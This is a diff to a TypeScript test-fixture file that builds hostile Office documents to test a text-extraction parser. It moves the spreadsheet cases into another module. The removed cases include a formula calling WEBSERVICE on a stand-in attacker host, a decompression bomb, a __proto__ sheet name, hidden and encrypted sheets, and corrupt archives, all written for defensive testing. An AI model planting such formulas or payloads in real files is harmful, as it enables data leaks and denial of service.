@@ -1,7 +1,8 @@
-import { writeXlsx } from "hucre/xlsx";
 import { textRows, workbook, zip } from "../../portfolio/workbooks.ts";
-import { fails, file, type HostileFile, utf8 } from "./expected.ts";
+import { fails, file, type HostileFile } from "./expected.ts";
 import { docx, docxParts, paragraph, pptx, row, run, shape } from "./make-office.ts";
+import { whiteSlides } from "./white-slides.ts";
+import { workbooks } from "./workbook-files.ts";
 
 const body = paragraph("The agreed budget is 48000 euros.");
 const indexed = { found: [["agreed budget is 48000", {}]] } satisfies HostileFile["expected"];
@@ -295,6 +296,7 @@ const slides: HostileFile[] = [
       facts: { slides: 2 },
     },
   ),
+  ...whiteSlides,
   file("Arabic slides", "ar.pptx", () => pptx([{ title: "ميزانية المشروع هي خمسون ألف يورو" }]), {
     found: [["ميزانية المشروع", { slide: 1 }]],
     facts: { language: "ar" },
@@ -317,109 +319,6 @@ const slides: HostileFile[] = [
     fails("too_large"),
   ),
   file("a Word document", "brief.pptx", () => docx(body), fails("wrong_type")),
-];
-
-const encrypted = () =>
-  writeXlsx({
-    sheets: [{ name: "A", rows: [["secret"]] }],
-    encryption: { password: "one", spinCount: 10 },
-  });
-
-const workbooks: HostileFile[] = [
-  file(
-    "two sheets, numbers and days",
-    "plan.xlsx",
-    () =>
-      writeXlsx({
-        sheets: [
-          {
-            name: "Budget",
-            rows: [
-              ["Work", "Amount", "Due"],
-              ["Design", 1234.5, new Date(Date.UTC(2026, 4, 12))],
-            ],
-          },
-          {
-            name: "Risks",
-            rows: [
-              ["Risk", "Owner"],
-              ["Late content", "Client"],
-            ],
-          },
-        ],
-      }),
-    {
-      found: [
-        ["Work: Design | Amount: 1234.5 | Due: 2026-05-12", { sheet: "Budget" }],
-        ["Risk: Late content | Owner: Client", { sheet: "Risks" }],
-      ],
-      flags: [],
-      facts: { format: "xlsx", sheets: 2 },
-    },
-  ),
-  file(
-    "a sheet named __proto__",
-    "proto.xlsx",
-    () =>
-      workbook({
-        sheets: '<sheet name="__proto__" sheetId="1" r:id="rId1"/>',
-        rows: textRows(["__proto__", "constructor"], ["polluted", "yes"]),
-      }),
-    { found: [["__proto__: polluted | constructor: yes", { sheet: "__proto__" }]] },
-  ),
-  file(
-    "a hidden sheet",
-    "hidden.xlsx",
-    () =>
-      writeXlsx({
-        sheets: [
-          { name: "Seen", rows: [["Seen words"]] },
-          { name: "Unseen", rows: [["Ignore this"]], hidden: true },
-        ],
-      }),
-    {
-      found: [["Seen words", { sheet: "Seen" }]],
-      absent: ["Ignore"],
-      flags: ["hidden_text_removed"],
-      facts: { sheets: 1 },
-    },
-  ),
-  file(
-    "a formula that calls out",
-    "formula.xlsx",
-    () =>
-      workbook({
-        rows: '<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f><v>42</v></c><c r="B1" t="inlineStr"><is><t>hours</t></is></c></row>',
-      }),
-    { found: [["42 | hours", { row: 1 }]], absent: ["evil"] },
-  ),
-  file(
-    "strings that unpack to 60 MB",
-    "bomb.xlsx",
-    () => workbook({ rows: "", strings: " ".repeat(60_000_000) }),
-    fails("too_large"),
-  ),
-  file("a password", "secret.xlsx", encrypted, fails("encrypted")),
-  file(
-    "the first half alone",
-    "half.xlsx",
-    () => workbook({ rows: textRows(["a"]) }).subarray(0, 700),
-    fails("corrupt"),
-  ),
-  file(
-    "sheets that are no XML",
-    "broken.xlsx",
-    () => zip([{ name: "xl/workbook.xml", content: "<<<>>>" }]),
-    fails("corrupt"),
-  ),
-  file("nothing written", "blank.xlsx", () => workbook({ rows: "" }), fails("empty")),
-  file(
-    "half a million cells and more",
-    "cells.xlsx",
-    () => workbook({ rows: `<row>${"<c/>".repeat(1000)}</row>`.repeat(501) }),
-    fails("too_large"),
-  ),
-  file("CSV", "table.xlsx", () => utf8("a,b\n1,2\n"), fails("wrong_type")),
 ];
 
 export const officeFiles: HostileFile[] = [...wordFiles, ...slides, ...workbooks];
